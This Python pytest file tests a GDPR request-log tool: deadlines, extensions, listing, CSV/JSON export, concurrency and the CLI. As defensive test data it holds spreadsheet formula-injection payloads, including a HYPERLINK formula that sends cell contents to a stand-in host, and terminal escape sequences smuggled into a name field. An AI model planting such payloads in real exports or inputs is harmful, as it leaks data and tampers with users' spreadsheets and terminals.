"""The request log: recording, deadlines, extensions, listing, export, concurrency, the CLI."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import os
import sqlite3
import subprocess
import sys
import textwrap
import time
from datetime import date
from pathlib import Path

import pytest
from babel.messages.extract import extract_from_dir, extract_from_file
from babel.messages.pofile import read_po
from typer.testing import CliRunner

from rekisteri.cli import commands as cli
from rekisteri.cli.terminal import render_lines
from rekisteri.errors import RekisteriError
from rekisteri.operations import requests as rq
from rekisteri.resources import templates_dir
from store_fixtures import RELEASE_CLI

ROOT = Path(__file__).resolve().parents[2]
TODAY = date(2025, 6, 2)


def run(*args: object, env: dict[str, str] | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(cli.app, [str(a) for a in args], env=env)
    return result.exit_code, result.output


@pytest.fixture
def register(tmp_path: Path) -> Path:
    path = tmp_path / "register.toml"
    path.write_text((ROOT / "examples" / "terhi-kallio" / "register.toml").read_text("utf-8"))
    return path


@pytest.fixture
def log(tmp_path: Path) -> Path:
    return tmp_path / "register.requests.sqlite"


# --- recording ------------------------------------------------------------------------------------


def test_a_request_gets_its_art_12_deadline(log: Path) -> None:
    request = rq.add_request(
        log, type="access", subject="Aino Virtanen", received="2025-05-20", now=TODAY
    )
    assert (request.id, request.status, request.received) == (1, rq.Status.OPEN, date(2025, 5, 20))
    # 20 June 2025 is Midsummer Eve: the next working day is Monday 23 June.
    assert request.due == request.first_due == date(2025, 6, 23)
    as_json = request.to_dict(TODAY)
    assert {"id", "type", "received", "due", "status"} <= set(as_json)
    assert as_json["due"] == "2025-06-23" and as_json["article"] == "15"


def test_the_log_is_private_and_beside_the_register(register: Path) -> None:
    path = rq.log_path(register)
    assert path == register.with_name("register.requests.sqlite")
    rq.add_request(path, type="erasure", subject="Mikko", received=TODAY, now=TODAY)
    assert (path.stat().st_mode & 0o777) == 0o600
    assert rq.log_path(register, Path("/elsewhere/log.sqlite")) == Path("/elsewhere/log.sqlite")


def test_a_missing_register_is_explained(tmp_path: Path) -> None:
    with pytest.raises(RekisteriError, match="no such register file"):
        rq.log_path(tmp_path / "nothing.toml")


@pytest.mark.parametrize(
    ("received", "message"),
    [
        ("2025-06-03", "is in the future"),
        ("2099-01-01", "is in the future"),
        ("2025-02-30", "is not a date"),
        ("31.4.2025", "is not a date"),
        ("yesterday", "is not a date"),
        ("2025/05/01", "is not a date"),
        ("", "is not a date"),
        ("2018-05-24", "before 25 May 2018"),
    ],
)
def test_bad_received_dates_are_refused(log: Path, received: str, message: str) -> None:
    with pytest.raises(RekisteriError, match=message):
        rq.add_request(log, type="access", subject="A", received=received, now=TODAY)
    assert not log.exists()


def test_finnish_dates_are_understood(log: Path) -> None:
    request = rq.add_request(log, type="access", subject="A", received="1.6.2025", now=TODAY)
    assert request.received == date(2025, 6, 1)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("type", "acces", "the type 'acces' is not one of access"),
        ("channel", "fax", "the channel 'fax' is not one of email"),
        ("subject", "   ", "the subject is empty"),
        ("subject", "x" * 2001, "longer than 2000"),
    ],
)
def test_bad_values_are_refused(log: Path, field: str, value: str, message: str) -> None:
    values = {"type": "access", "subject": "A", "channel": "email", field: value}
    with pytest.raises(RekisteriError, match=message):
        rq.add_request(log, received=TODAY, now=TODAY, **values)


# --- extending and closing ------------------------------------------------------------------------


def test_an_extension_adds_two_months_and_records_the_notice(log: Path) -> None:
    rq.add_request(log, type="access", subject="A", received="2025-01-31", now=date(2025, 2, 1))
    request = rq.extend_request(
        log, 1, reason="Paljon aineistoa", told_on="2025-02-10", now=date(2025, 2, 11)
    )
    assert (request.status, request.extension_months) == (rq.Status.EXTENDED, 2)
    assert request.first_due == date(2025, 2, 28) and request.due == date(2025, 4, 28)
    assert request.told_on == date(2025, 2, 10) and request.extension_reason == "Paljon aineistoa"


@pytest.mark.parametrize(
    ("lang", "one", "two"),
    [
        ("en", "extended by 1 month in all", "extended by 2 months in all"),
        ("sv", "med sammanlagt 1 månad:", "med sammanlagt 2 månader:"),
        ("fi", "yhteensä 1 kuukaudella", "yhteensä 2 kuukaudella"),
    ],
)
def test_the_extension_says_its_months_in_the_number_they_are(
    log: Path, lang: str, one: str, two: str
) -> None:
    rq.add_request(log, type="access", subject="A", received="2025-03-03", now=date(2025, 3, 4))
    first = rq.extend_request(log, 1, reason="a", months=1, now=date(2025, 3, 10))
    assert one in rq.describe_change(first, lang)
    second = rq.extend_request(log, 1, reason="b", months=1, now=date(2025, 3, 20))
    assert two in rq.describe_change(second, lang)


def test_two_one_month_extensions_and_no_more(log: Path) -> None:
    rq.add_request(log, type="access", subject="A", received="2025-03-03", now=date(2025, 3, 4))
    first = rq.extend_request(log, 1, reason="a", months=1, now=date(2025, 3, 10))
    assert first.due == date(2025, 5, 5)  # 3 May 2025 is a Saturday
    second = rq.extend_request(log, 1, reason="b", months=1, now=date(2025, 3, 20))
    assert second.due == date(2025, 6, 3) and second.extension_months == 2
    with pytest.raises(RekisteriError, match="already extended by two months"):
        rq.extend_request(log, 1, reason="c", months=1, now=date(2025, 3, 21))


def test_an_extension_must_be_told_within_the_first_month(log: Path) -> None:
    rq.add_request(log, type="access", subject="A", received="2025-03-03", now=date(2025, 3, 4))
    with pytest.raises(RekisteriError, match=r"within one month of receipt, by 2025-04-03"):
        rq.extend_request(log, 1, reason="late", now=date(2025, 4, 4))
    with pytest.raises(RekisteriError, match="in the future"):
        rq.extend_request(log, 1, reason="x", told_on="2025-03-20", now=date(2025, 3, 10))
    with pytest.raises(RekisteriError, match=r"one or two|two further months"):
        rq.extend_request(log, 1, reason="x", months=3, now=date(2025, 3, 10))


def test_closing_records_the_outcome_and_lateness(log: Path) -> None:
    rq.add_request(log, type="erasure", subject="A", received="2025-03-03", now=date(2025, 3, 4))
    closed = rq.close_request(log, 1, outcome="Poistettu", now=date(2025, 4, 10))
    assert closed.status is rq.Status.CLOSED and closed.closed_on == date(2025, 4, 10)
    assert closed.late is True  # due 3 April
    with pytest.raises(RekisteriError, match="already closed"):
        rq.close_request(log, 1, outcome="again", now=date(2025, 4, 10))
    with pytest.raises(RekisteriError, match="only an open request can be extended"):
        rq.extend_request(log, 1, reason="x", now=date(2025, 3, 5))
    with pytest.raises(RekisteriError, match="there is no request 9"):
        rq.close_request(log, 9, outcome="x", now=date(2025, 4, 10))


def test_commands_on_a_log_that_does_not_exist(log: Path) -> None:
    assert rq.list_requests(log) == []
    with pytest.raises(RekisteriError, match="no request log yet"):
        rq.close_request(log, 1, outcome="x")
    with pytest.raises(RekisteriError, match="there is no request log"):
        rq.verify_log(log)
    assert not log.exists()


def test_a_foreign_sqlite_file_is_refused_and_left_alone(log: Path) -> None:
    connection = sqlite3.connect(log)
    connection.execute("CREATE TABLE customers (id INTEGER)")
    connection.commit()
    connection.close()
    before = log.read_bytes()
    for action in (
        lambda: rq.add_request(log, type="access", subject="A", received=TODAY, now=TODAY),
        lambda: rq.list_requests(log),
    ):
        with pytest.raises(RekisteriError, match="not a rekisteri request log"):
            action()
    assert log.read_bytes() == before


def test_a_text_file_is_refused_and_left_alone(log: Path) -> None:
    log.write_text("not a database at all\n" * 100)
    before = log.read_bytes()
    with pytest.raises(RekisteriError, match="damaged"):
        rq.add_request(log, type="access", subject="A", received=TODAY, now=TODAY)
    assert log.read_bytes() == before


# --- listing --------------------------------------------------------------------------------------


def fill(log: Path) -> None:
    rq.add_request(log, type="access", subject="Aino", received="2025-04-01", now=TODAY)
    rq.add_request(log, type="erasure", subject="Mikko", received="2025-05-05", now=TODAY)
    rq.add_request(log, type="objection", subject="Liisa", received="2025-05-30", now=TODAY)
    rq.add_request(log, type="rectification", subject="Jussi", received="2025-04-02", now=TODAY)
    rq.close_request(log, 4, outcome="Korjattu", now=TODAY)


def test_the_list_is_by_deadline_and_marks_overdue_and_soon(log: Path) -> None:
    fill(log)
    found = rq.list_requests(log)
    assert [r.id for r in found] == [1, 2, 3]  # due 2 May, 5 June, 30 June; 4 is closed
    lines = rq.listing_lines(found, TODAY, "en")
    text = "\n".join(line.text for line in lines)
    assert text == textwrap.dedent(
        """\
        ID  Type                 Received      Due           Status              Subject
         1  access (Art. 15)     1 April 2025  2 May 2025    overdue by 31 days  Aino
         2  erasure (Art. 17)    5 May 2025    5 June 2025   due in 3 days       Mikko
         3  objection (Art. 21)  30 May 2025   30 June 2025  open                Liisa

        3 requests, 1 overdue, 1 due within 7 days"""
    )
    assert [line.style for line in lines] == ["heading", "overdue", "soon", None, None, "overdue"]
    # 1 and 4 are both due on 2 May (1 May is May Day); the earlier number first.
    assert [r.id for r in rq.list_requests(log, include_closed=True)] == [1, 4, 2, 3]


def test_the_list_in_finnish(log: Path) -> None:
    fill(log)
    text = "\n".join(line.text for line in rq.listing_lines(rq.list_requests(log), TODAY, "fi"))
    assert "tarkastus (15 art.)" in text and "31 päivää myöhässä" in text
    assert "erääntyy 3 päivän kuluttua" in text and "2.5.2025" in text


def test_colour_only_marks_the_lines(log: Path) -> None:
    fill(log)
    lines = rq.listing_lines(rq.list_requests(log), TODAY, "en")
    plain = render_lines(lines, colour=False)
    coloured = render_lines(lines, colour=True)
    assert "\x1b[" not in plain and "\x1b[1;31m" in coloured and "\x1b[33m" in coloured
    assert [line.text for line in lines] == plain.splitlines()


def test_export_csv_and_json_carry_every_request(log: Path) -> None:
    fill(log)
    everything = rq.list_requests(log, include_closed=True)
    rows = list(csv.DictReader(io.StringIO(rq.requests_csv(everything, TODAY))))
    assert [row["id"] for row in rows] == ["1", "4", "2", "3"]
    assert rows[1]["status"] == "closed" and rows[1]["outcome"] == "Korjattu"
    assert rows[1]["late"] == "true"  # due 2 May, closed 2 June
    assert rows[0]["late"] == ""  # not answered yet
    data = json.loads(rq.requests_json(everything, TODAY))
    assert data[0]["attention"] == "overdue" and data[2]["attention"] == "due_soon"


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Aino")', "+358 40 123+A1", "-2+3", "@SUM(A1)"]


def test_export_csv_cells_are_text_in_a_spreadsheet(log: Path) -> None:
    for subject in FORMULAS:
        rq.add_request(log, type="access", subject=subject, received="2025-05-20", now=TODAY)
    rq.close_request(log, 1, outcome="=1+1 answered", now=TODAY)
    rq.add_request(log, type="access", subject="Late", received="2025-04-01", now=TODAY)
    found = rq.list_requests(log, include_closed=True)
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(rq.requests_csv(found, TODAY)))}
    assert [rows[str(i)]["subject"] for i in range(1, 5)] == ["'" + s for s in FORMULAS]
    assert rows["1"]["outcome"] == "'=1+1 answered"
    # Numbers stay numbers and dates dates: an overdue request's days left are negative.
    assert rows["5"]["received"] == "2025-04-01" and int(rows["5"]["days_left"]) < 0
    assert rows["5"]["days_left"].startswith("-")
    # JSON keeps the text as recorded.
    by_id = {r["id"]: r for r in json.loads(rq.requests_json(found, TODAY))}
    assert [by_id[i]["subject"] for i in range(1, 5)] == FORMULAS


def test_the_listing_escapes_control_characters(log: Path) -> None:
    rq.add_request(log, type="access", subject="Aino \x1b[2J\x1b]0;x\x07 V", received="2025-05-20",
                   now=TODAY)  # fmt: skip
    for colour in (False, True):
        text = render_lines(rq.listing_lines(rq.list_requests(log), TODAY, "en"), colour=colour)
        assert "\x1b[2J" not in text and "\x07" not in text and "\x1b]" not in text
        assert "Aino \\x1b[2J\\x1b]0;x\\x07 V" in text


# --- two processes at once ------------------------------------------------------------------------

WORKER = """
import sys, time
from datetime import date
from pathlib import Path
from rekisteri.operations.requests import add_request
log, name, count, go = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3]), Path(sys.argv[4])
while not go.exists():
    time.sleep(0.005)
for i in range(count):
    add_request(log, type="access", subject=f"{name}-{i}", received=date(2025, 5, 1),
                now=date(2025, 6, 2))
"""


def test_two_processes_adding_at_once_lose_nothing(log: Path, tmp_path: Path) -> None:
    go = tmp_path / "go"
    count = 40
    workers = [
        subprocess.Popen(
            [sys.executable, "-c", WORKER, str(log), name, str(count), str(go)],
            stderr=subprocess.PIPE,
            text=True,
        )
        for name in ("first", "second")
    ]
    time.sleep(0.5)  # both interpreters are up and waiting
    go.touch()
    for worker in workers:
        _out, err = worker.communicate(timeout=120)
        assert worker.returncode == 0, err
    found = rq.list_requests(log, include_closed=True)
    assert sorted(r.id for r in found) == list(range(1, 2 * count + 1))
    assert sorted(r.subject for r in found) == sorted(
        f"{name}-{i}" for name in ("first", "second") for i in range(count)
    )
    report = rq.verify_log(log)
    assert report.ok and report.entries == 2 * count


# --- the CLI --------------------------------------------------------------------------------------


def test_cli_add_list_extend_close_export_verify(register: Path) -> None:
    code, output = run("requests", "add", register, "--type", "access", "--subject",
                       "Aino Virtanen", "--received", "2025-05-20", "--channel", "email",
                       "--lang", "en")  # fmt: skip
    assert code == 0, output
    assert output.startswith("Request 1 recorded: access (Art. 15), received 20 May 2025")
    assert "(20 June 2025 is not a working day.)" in output
    code, output = run("requests", "add", register, "--type", "erasure", "--subject", "Mikko",
                       "--received", "2025-05-30", "--format", "json")  # fmt: skip
    assert code == 0, output
    assert json.loads(output)["due"] == "2025-06-30"
    code, output = run("requests", "list", register, "--as-of", "2025-06-20", "--format", "json")
    assert [r["id"] for r in json.loads(output)] == [1, 2]
    code, output = run("requests", "list", register, "--as-of", "2025-06-20", "--lang", "en")
    assert "due in 3 days" in output and "\x1b[" not in output
    code, output = run("requests", "close", register, "2", "--outcome", "Poistettu", "--format",
                       "json")  # fmt: skip
    assert code == 0 and json.loads(output)["status"] == "closed"
    code, output = run("requests", "export", register, "--format", "csv")
    assert code == 0 and output.splitlines()[0].startswith("id,ref,type,article,subject")
    code, output = run("requests", "verify", register, "--format", "json")
    assert code == 0 and json.loads(output)["ok"] is True
    code, output = run("requests", "verify", register, "--lang", "en")
    assert code == 0 and "is intact: 3 audit entries about 2 requests" in output


def test_cli_refusals_exit_non_zero_without_a_traceback(register: Path) -> None:
    for args, message in [
        (["--type", "access", "--subject", "A", "--received", "2999-01-01"], "in the future"),
        (["--type", "access", "--subject", "A", "--received", "32.1.2025"], "is not a date"),
        (["--type", "acces", "--subject", "A", "--received", "2025-01-01"], "'acces' is not one"),
    ]:
        code, output = run("requests", "add", register, *args)
        assert code != 0 and message in output and "Traceback" not in output
    code, output = run("requests", "extend", register, "5", "--reason", "x")
    assert code == 1 and "no request log yet" in output
    code, output = run("requests", "list", register.with_name("missing.toml"))
    assert code == 1 and "no such register file" in output
    code, output = run("requests", "verify", register, "--format", "json")
    assert code == 1 and json.loads(output)["ok"] is False


def test_cli_verify_names_the_first_bad_entry(register: Path) -> None:
    log = rq.log_path(register)
    for subject in ("A", "B", "C"):
        rq.add_request(log, type="access", subject=subject, received=TODAY, now=TODAY)
    connection = sqlite3.connect(log)
    connection.execute("UPDATE audit SET data = replace(data, 'B', 'X') WHERE seq = 2")
    connection.commit()
    connection.close()
    code, output = run("requests", "verify", register, "--lang", "en")
    assert code == 1
    assert "has been changed or damaged" in output and "entry 2 (request 2, received" in output


def test_cli_list_without_a_log(register: Path) -> None:
    assert run("requests", "list", register, "--lang", "en") == (0, "No open requests.\n")
    code, output = run("requests", "list", register, "--format", "json")
    assert code == 0 and json.loads(output) == []


def test_cli_choices_are_the_library_s() -> None:
    # One vocabulary (register/vocabulary.py), not a mirrored copy kept in step by hand.
    assert cli.RequestKind is rq.RequestType and cli.RequestChannel is rq.Channel


# --- access --request -----------------------------------------------------------------------------


def test_access_for_a_request_records_the_manifest_hash(demo_path: Path, tmp_path: Path) -> None:
    log = rq.log_path(demo_path)
    rq.add_request(log, type="access", subject="Aino Virtanen", received=TODAY, now=TODAY)
    out = tmp_path / "bundle"
    code, output = run("access", demo_path, "--email", "aino.virtanen@example.com", "-o", out,
                       "--format", "json,csv", "--request", "1", *RELEASE_CLI)  # fmt: skip
    assert code == 0, output
    digest = hashlib.sha256((out / "manifest.json").read_bytes()).hexdigest()
    assert digest in output
    request = rq.list_requests(log)[0]
    assert request.status is rq.Status.DELIVERED and request.manifest_sha256 == digest
    assert request.bundle == str(out.resolve())
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert "R-1" in json.dumps(manifest)
    assert rq.verify_log(log).ok


def test_access_for_a_zipped_request_hashes_the_manifest_inside(
    demo_path: Path, tmp_path: Path
) -> None:
    import zipfile

    log = rq.log_path(demo_path)
    rq.add_request(log, type="portability", subject="Aino", received=TODAY, now=TODAY)
    code, output = run("access", demo_path, "--id", "1", "-o", tmp_path / "b", "--format", "json",
                       "--zip", "--request", "1", *RELEASE_CLI)  # fmt: skip
    assert code == 0, output
    with zipfile.ZipFile(tmp_path / "b.zip") as archive:
        manifest = archive.read("b/manifest.json")
    assert rq.list_requests(log)[0].manifest_sha256 == hashlib.sha256(manifest).hexdigest()


def test_access_refuses_a_request_it_cannot_answer(demo_path: Path, tmp_path: Path) -> None:
    log = rq.log_path(demo_path)
    rq.add_request(log, type="erasure", subject="Aino", received=TODAY, now=TODAY)
    out = tmp_path / "bundle"
    code, output = run("access", demo_path, "--id", "1", "-o", out, "--request", "1")
    assert code == 1 and "a request for erasure" in output and not out.exists()
    code, output = run("access", demo_path, "--id", "1", "-o", out, "--request", "7")
    assert code == 1 and "there is no request 7" in output and not out.exists()
    code, output = run("access", demo_path, "--id", "1", "-o", out, "--request", "1", "--ref", "x")
    assert code == 2 and "give no --all or --ref" in output  # a usage error


# --- catalogs -------------------------------------------------------------------------------------

RUNNING_SOURCES = (
    "src/rekisteri/operations/requests.py",
    "src/rekisteri/operations/retention_sweep.py",
)


def running_messages() -> set[str]:
    found: set[str] = set()
    for source in RUNNING_SOURCES:
        for _line, message, _comments, _context in extract_from_file("python", ROOT / source):
            found.add(message if isinstance(message, str) else message[0])
    for _name, _line, message, _comments, _context in extract_from_dir(
        str(templates_dir() / "feedback"),
        method_map=[("**.j2", "jinja2.ext:babel_extract")],
        options_map={"**.j2": {"newstyle_gettext": "true"}},
    ):
        found.add(message if isinstance(message, str) else message[0])
    return found


@pytest.mark.parametrize("lang", ["fi", "en", "sv"])
def test_the_running_catalog_is_complete(lang: str) -> None:
    path = templates_dir() / "locale" / lang / "LC_MESSAGES" / "running.po"
    with path.open("rb") as handle:
        catalog = read_po(handle, locale=lang, abort_invalid=True)
    used = running_messages()
    translated = {
        str(m.id if isinstance(m.id, str) else m.id[0])
        for m in catalog
        if m.id and m.string and not m.fuzzy and all(m.string if isinstance(m.string, tuple)
                                                     else [m.string])
    }  # fmt: skip
    assert used - translated == set()
    assert translated - used == set()


def test_env_pins_today_for_reproducible_runs() -> None:
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1748822400"}  # 2025-06-02 00:00 UTC
    result = subprocess.run(
        [sys.executable, "-c", "from rekisteri.operations.requests import today; print(today())"],
        env=env,
        capture_output=True,
        text=True,
        check=True,
    )
    assert result.stdout.strip() == "2025-06-02"


def test_the_request_commands_do_not_load_the_register_model(register: Path) -> None:
    """Issue 17: a request is logged without building the register model (pydantic's models
    of every table): the log is beside the register, and its language is read from the TOML."""
    probe = (
        "import sys\nfrom rekisteri.cli import main\nsys.argv = ['rekisteri', *sys.argv[1:]]\n"
        "try:\n    main()\nexcept SystemExit:\n    pass\n"
        "print(sorted(m for m in ('rekisteri.register.model', 'babel', 'holidays', "
        "'sqlalchemy') if m in sys.modules), file=sys.stderr)"
    )
    add = ["requests", "add", str(register), "--type", "access", "--subject", "Uusi",
           "--received", "2025-06-02"]  # fmt: skip
    for argv in (add, ["requests", "list", str(register)], ["requests", "verify", str(register)]):
        done = subprocess.run(
            [sys.executable, "-c", probe, *argv], capture_output=True, text=True, check=True
        )
        loaded = done.stderr.strip().splitlines()[-1]
        assert "rekisteri.register.model" not in loaded, (argv, loaded)


def test_export_csv_keeps_a_line_break_inside_its_cell(log: Path) -> None:
    # The log folds line breaks into spaces, but requests_csv takes any request: a carriage
    # return left unquoted would end the row there and spill the rest into a row of its own.
    rq.add_request(log, type="access", subject="Aino Virtanen", received="2025-05-20", now=TODAY)
    rq.close_request(log, 1, outcome="Answered by post", now=TODAY)
    assert rq.list_requests(log, include_closed=True)[0].subject == "Aino Virtanen"
    request = dataclasses.replace(
        rq.list_requests(log, include_closed=True)[0],
        subject="Aino\rVirtanen",
        outcome="Answered\r\nby post",
    )
    text = rq.requests_csv([request], TODAY)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(row["subject"], row["outcome"]) for row in rows] == [
        ("Aino\rVirtanen", "Answered\r\nby post")
    ]
    assert text.split("\n", 1)[0].startswith("id,")
